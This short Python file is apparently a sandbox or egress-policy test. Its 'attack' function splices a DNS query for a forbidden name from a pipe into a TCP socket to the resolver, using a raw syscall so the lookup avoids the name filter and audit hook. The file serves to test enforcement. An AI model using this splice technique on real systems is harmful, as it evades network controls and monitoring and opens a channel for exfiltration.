"""A question over TCP by splice
Moves the question from a pipe into the stream.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import os
import struct


def attack(at):
    reading, writing = os.pipe()
    packet = at.query(at.evil())
    os.write(writing, struct.pack('!H', len(packet)) + packet)
    stream = at.tcp()
    stream.connect((at.RESOLVER, 53))
    at.syscall(275, reading, None, stream.fileno(), None, len(packet) + 2, 0)
    return b'evil' in stream.recv(500)
